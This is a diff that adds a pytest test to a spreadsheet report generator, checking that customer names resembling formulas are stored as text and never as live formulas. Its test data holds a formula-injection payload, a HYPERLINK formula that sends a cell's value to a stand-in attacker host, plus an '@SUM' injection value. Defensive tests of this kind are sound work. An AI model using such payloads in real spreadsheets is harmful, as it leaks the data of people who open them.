@@ -197,3 +197,18 @@ def test_sheet_names_are_made_valid():
 def test_missing_labels_are_refused():
     with pytest.raises(KeyError, match="title"):
         workbook(report(), {key: key for key in LABEL_KEYS if key != "title"})
+
+
+def test_names_that_look_like_formulas_are_written_as_text():
+    data = report()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    data["top_customers"][0]["name"] = formula
+    data["top_customers"][0]["user"] = "@SUM(1)"
+    content = workbook(data, LABELS)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
+    assert not any(b"HYPERLINK" in sheet and b"<f>" in sheet for sheet in sheets)
+    top = load(content)["Sheet Concentration"]
+    assert top.cell(row=4, column=2).value == formula
+    assert top.cell(row=4, column=2).data_type == "s"
+    assert top.cell(row=4, column=5).value == "@SUM(1)"
